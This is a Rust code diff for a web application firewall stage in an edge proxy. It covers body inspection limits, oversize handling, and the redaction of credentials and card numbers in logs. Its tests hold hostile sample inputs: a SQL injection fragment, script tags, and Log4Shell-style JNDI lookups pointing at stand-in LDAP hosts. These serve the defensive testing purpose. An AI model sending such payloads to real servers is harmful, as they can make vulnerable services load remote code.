@@ -1,20 +1,23 @@
 //! The WAF stage (stage 3): the listener's web ACL ([`securecart_waf`]) decides on the
 //! request's head and the start of its body before any rule forwards it. A body the edge
-//! would buffer anyway (a declared length up to 64 KiB) is read first and inspected up to
-//! the inspection limit; a longer or chunked body is not read here, and counts as
-//! oversize (AWS WAF's oversize handling says whether that blocks). Every block and count
-//! is logged (target `waf`, with the rule id and the matched data, shortened and redacted),
-//! counted per rule, and kept among the latest [`MAX_SAMPLES`] samples that the admin API
-//! lists (AWS WAF's sampled requests).
+//! would buffer anyway (a declared length up to 64 KiB) is read whole and inspected up to
+//! the inspection limit; of any other body (chunked, without a length over HTTP/2, or
+//! longer) the edge reads as far as the limit, inspects that, and sends what it read ahead
+//! of the rest as it comes (AWS WAF's oversize handling says whether a body past the limit
+//! blocks). Every block and count is logged (target `waf`, with the rule id and the
+//! matched data, shortened and redacted), counted per rule, and kept among the latest
+//! [`MAX_SAMPLES`] samples that the admin API lists (AWS WAF's sampled requests).
 
 use std::net::IpAddr;
+use std::pin::Pin;
 use std::sync::Arc;
+use std::task::{Context, Poll};
 use std::time::Duration;
 
-use bytes::Bytes;
-use http::Request;
-use http_body::Body as _;
-use http_body_util::{BodyExt, Either, Full};
+use bytes::{Bytes, BytesMut};
+use http::{HeaderMap, Request};
+use http_body::{Body, Frame, SizeHint};
+use http_body_util::{BodyExt, Either};
 use securecart_waf::{Inspection, RuleAction, WebAcl};
 
 use crate::error::EdgeError;
@@ -74,17 +77,37 @@ impl Samples {
     }
 }
 
-/// What a log line or a sample may show of matched data: nothing of credentials (cookies,
-/// `Authorization`), and card numbers masked but for their last four digits.
-pub fn redact(field: &str, data: &str) -> String {
-    const SECRET_FIELDS: [&str; 5] = [
-        "cookies",
-        "header:cookie",
-        "header:authorization",
-        "header:proxy-authorization",
-        "header:x-api-key",
-    ];
-    if SECRET_FIELDS.contains(&field) {
+/// The headers that carry credentials, whose values a log line or a sample never shows.
+const SECRET_HEADERS: [&str; 4] = [
+    "cookie",
+    "authorization",
+    "proxy-authorization",
+    "x-api-key",
+];
+
+/// What a log line or a sample may show of data matched in `field` of a request with
+/// `headers`: nothing of credentials (cookies, `Authorization`), and card numbers masked
+/// but for their last four digits. A match in all the headers at once shows nothing when
+/// the request carries credentials, unless the data is the start of another header's
+/// value as sent (a rule may have read a credential, decoded, and its evidence would not
+/// tell which header it came from).
+pub fn redact(field: &str, data: &str, headers: &HeaderMap) -> String {
+    let secret = match field {
+        "cookies" => true,
+        "headers" => {
+            headers
+                .keys()
+                .any(|name| SECRET_HEADERS.contains(&name.as_str()))
+                && !headers.iter().any(|(name, value)| {
+                    !SECRET_HEADERS.contains(&name.as_str())
+                        && String::from_utf8_lossy(&value.as_bytes()[..value.len().min(64)]) == data
+                })
+        }
+        _ => field
+            .strip_prefix("header:")
+            .is_some_and(|name| SECRET_HEADERS.contains(&name)),
+    };
+    if secret {
         return "REDACTED".to_owned();
     }
     // Runs of 13 to 19 digits, spaces and dashes allowed between them: payment cards.
@@ -127,8 +150,104 @@ pub fn redact(field: &str, data: &str) -> String {
     redacted
 }
 
-/// A request's body after the WAF stage: as it came, or read whole.
-pub type InspectedBody = Either<ClientBody, Full<Bytes>>;
+/// A request's body after the WAF stage: as it came (no WAF, or an empty body), or read
+/// in part or whole.
+pub type InspectedBody = Either<ClientBody, ReadBody>;
+
+/// A body the WAF stage read (whole, or as far as its inspection limit): the bytes read,
+/// then the rest of the client's body as it comes, then the trailers if the body ended
+/// with some while it was read.
+#[derive(Debug)]
+pub struct ReadBody {
+    read: Bytes,
+    rest: Option<ClientBody>,
+    trailers: Option<HeaderMap>,
+}
+
+impl Body for ReadBody {
+    type Data = Bytes;
+    type Error = <ClientBody as Body>::Error;
+
+    fn poll_frame(
+        mut self: Pin<&mut Self>,
+        context: &mut Context<'_>,
+    ) -> Poll<Option<Result<Frame<Bytes>, Self::Error>>> {
+        let this = &mut *self;
+        if !this.read.is_empty() {
+            return Poll::Ready(Some(Ok(Frame::data(std::mem::take(&mut this.read)))));
+        }
+        if let Some(rest) = &mut this.rest {
+            match Pin::new(rest).poll_frame(context) {
+                Poll::Ready(None) => this.rest = None,
+                other => return other,
+            }
+        }
+        Poll::Ready(
+            this.trailers
+                .take()
+                .map(|trailers| Ok(Frame::trailers(trailers))),
+        )
+    }
+
+    fn is_end_stream(&self) -> bool {
+        self.read.is_empty()
+            && self.trailers.is_none()
+            && self.rest.as_ref().is_none_or(Body::is_end_stream)
+    }
+
+    fn size_hint(&self) -> SizeHint {
+        let read = self.read.len() as u64;
+        match &self.rest {
+            None => SizeHint::with_exact(read),
+            Some(rest) => {
+                let rest = rest.size_hint();
+                let mut hint = SizeHint::new();
+                hint.set_lower(rest.lower().saturating_add(read));
+                if let Some(upper) = rest.upper() {
+                    hint.set_upper(upper.saturating_add(read));
+                }
+                hint
+            }
+        }
+    }
+}
+
+/// Reads `body` until it ends or `enough` bytes of it are read, within `timeout`.
+async fn read_start(
+    mut body: ClientBody,
+    enough: usize,
+    timeout: Duration,
+) -> Result<ReadBody, EdgeError> {
+    let mut read = BytesMut::new();
+    let mut trailers = None;
+    let reading = async {
+        while read.len() < enough {
+            match body.frame().await {
+                None => return Ok(true),
+                Some(Err(_)) => return Err(EdgeError::BadRequest("the request body ended early")),
+                Some(Ok(frame)) => match frame.into_data() {
+                    Ok(data) => read.extend_from_slice(&data),
+                    Err(frame) => {
+                        // Trailers end a body.
+                        trailers = frame.into_trailers().ok();
+                        return Ok(true);
+                    }
+                },
+            }
+        }
+        Ok(body.is_end_stream())
+    };
+    // A client that declares a body and then stalls is cut off, as one that stalls in its
+    // headers is.
+    let ended = tokio::time::timeout(timeout, reading)
+        .await
+        .map_err(|_| EdgeError::ClientTimeout)??;
+    Ok(ReadBody {
+        read: read.freeze(),
+        rest: (!ended).then_some(body),
+        trailers,
+    })
+}
 
 /// A listener's web ACL and how it reads bodies.
 #[derive(Debug, Clone)]
@@ -137,8 +256,8 @@ pub struct WafConfig {
     pub acl: Arc<WebAcl>,
     /// How many bytes of a body are inspected (AWS WAF's body inspection limit).
     pub body_limit: usize,
-    /// Whether a body past the limit (or one not read: chunked, or over 64 KiB) blocks the
-    /// request; if not, its start is inspected (or nothing of it).
+    /// Whether a body past the limit blocks the request; if not, its start is inspected
+    /// (AWS WAF's `CONTINUE`).
     pub oversize_blocks: bool,
 }
 
@@ -173,24 +292,20 @@ pub async fn inspect(
     let (body, read, unread) = if body.is_end_stream() {
         (Either::Left(body), Bytes::new(), false)
     } else {
-        match body.size_hint().exact() {
-            Some(length) if length <= MAX_BUFFERED_BODY => {
-                let bytes = tokio::time::timeout(body_timeout, body.collect())
-                    .await
-                    .map_err(|_| EdgeError::ClientTimeout)?
-                    .map_err(|_| EdgeError::BadRequest("the request body ended early"))?
-                    .to_bytes();
-                (Either::Right(Full::new(bytes.clone())), bytes, false)
-            }
-            // Streams through unread: none of it is inspected.
-            _ => (Either::Left(body), Bytes::new(), true),
-        }
+        // A body the upstream stage buffers anyway (so that a retry can send it again) is
+        // read whole; any other only as far as the inspection limit (and the frame that
+        // passes it), the rest streaming on behind what was read.
+        let whole = body
+            .size_hint()
+            .exact()
+            .is_some_and(|length| length <= MAX_BUFFERED_BODY);
+        let enough = if whole { usize::MAX } else { waf.body_limit };
+        let body = read_start(body, enough, body_timeout).await?;
+        let read = body.read.clone();
+        let unread = body.rest.is_some();
+        (Either::Right(body), read, unread)
     };
     let oversize = unread || read.len() > waf.body_limit;
-    if oversize && waf.oversize_blocks {
-        metrics.waf_match("oversize", "block");
-        return Err(EdgeError::Blocked("oversize".to_owned(), None));
-    }
     let inspected = &read[..read.len().min(waf.body_limit)];
     let inspection = Inspection::new(
         parts.method.as_str(),
@@ -202,45 +317,58 @@ pub async fn inspect(
         client,
     );
     let verdict = waf.acl.evaluate(&inspection);
+    // A body past the limit blocks where the listener says so, unless a rule allowed the
+    // request (an operator's rule for a trusted client, say) or another blocked it.
+    let oversize_blocks =
+        oversize && waf.oversize_blocks && !verdict.blocked && verdict.terminating_rule.is_none();
+    let blocked = verdict.blocked || oversize_blocks;
+    let record = |rule: &str, action: &'static str, field: &str, data: &str| {
+        metrics.waf_match(rule, action);
+        if action == "allow" {
+            return;
+        }
+        let data = redact(field, data, &parts.headers);
+        tracing::info!(
+            target: "waf",
+            rule = %rule,
+            action,
+            field = %field,
+            data = %data.escape_debug(),
+            client = %client,
+            method = %parts.method,
+            path = %parts.uri.path(),
+            "web ACL match"
+        );
+        let path = parts.uri.path();
+        let mut end = path.len().min(256);
+        while !path.is_char_boundary(end) {
+            end -= 1;
+        }
+        metrics.waf_samples.push(Sample {
+            time: std::time::SystemTime::now()
+                .duration_since(std::time::UNIX_EPOCH)
+                .map_or(0, |since| since.as_secs()),
+            client,
+            method: parts.method.to_string(),
+            path: path[..end].to_owned(),
+            rule: rule.to_owned(),
+            action,
+            blocked,
+            field: field.to_owned(),
+            data,
+        });
+    };
     for (rule, action, evidence) in &verdict.matches {
         let action = match action {
             RuleAction::Allow => "allow",
             RuleAction::Block => "block",
             RuleAction::Count => "count",
         };
-        metrics.waf_match(rule, action);
-        if action != "allow" {
-            let data = redact(&evidence.field, &evidence.data);
-            tracing::info!(
-                target: "waf",
-                rule = %rule,
-                action,
-                field = %evidence.field,
-                data = %data.escape_debug(),
-                client = %client,
-                method = %parts.method,
-                path = %parts.uri.path(),
-                "web ACL match"
-            );
-            let path = parts.uri.path();
-            let mut end = path.len().min(256);
-            while !path.is_char_boundary(end) {
-                end -= 1;
-            }
-            metrics.waf_samples.push(Sample {
-                time: std::time::SystemTime::now()
-                    .duration_since(std::time::UNIX_EPOCH)
-                    .map_or(0, |since| since.as_secs()),
-                client,
-                method: parts.method.to_string(),
-                path: path[..end].to_owned(),
-                rule: rule.clone(),
-                action,
-                blocked: verdict.blocked,
-                field: evidence.field.clone(),
-                data,
-            });
-        }
+        record(rule, action, &evidence.field, &evidence.data);
+    }
+    if oversize_blocks {
+        record("oversize", "block", "body", "");
+        return Err(EdgeError::Blocked("oversize".to_owned(), None));
     }
     if verdict.blocked {
         return Err(EdgeError::Blocked(
@@ -259,6 +387,7 @@ mod tests {
 
     #[test]
     fn credentials_and_card_numbers_are_redacted() {
+        let none = http::HeaderMap::new();
         for (field, data, shown) in [
             ("cookies", "session=abc' OR 1=1", "REDACTED"),
             ("header:authorization", "Bearer <script>", "REDACTED"),
@@ -277,7 +406,23 @@ mod tests {
             ),
             ("uri_path", "/a-1-2-3", "/a-1-2-3"),
         ] {
-            assert_eq!(redact(field, data), shown, "{field}: {data}");
+            assert_eq!(redact(field, data, &none), shown, "{field}: {data}");
         }
+        // A match in all the headers at once, of a request with a cookie: the cookie's
+        // value (as read, or decoded) shows nothing; another header's value as sent shows.
+        let mut headers = http::HeaderMap::new();
+        headers.insert("cookie", "session=${jndi:ldap://x}".parse().expect("value"));
+        headers.insert(
+            "user-agent",
+            "curl ${jndi:ldap://y}".parse().expect("value"),
+        );
+        for (data, shown) in [
+            ("session=${jndi:ldap://x}", "REDACTED"),
+            ("session=${jndi:ldap:%2f%2fx}", "REDACTED"),
+            ("curl ${jndi:ldap://y}", "curl ${jndi:ldap://y}"),
+        ] {
+            assert_eq!(redact("headers", data, &headers), shown, "{data}");
+        }
+        assert_eq!(redact("headers", "a <script>", &none), "a <script>");
     }
 }
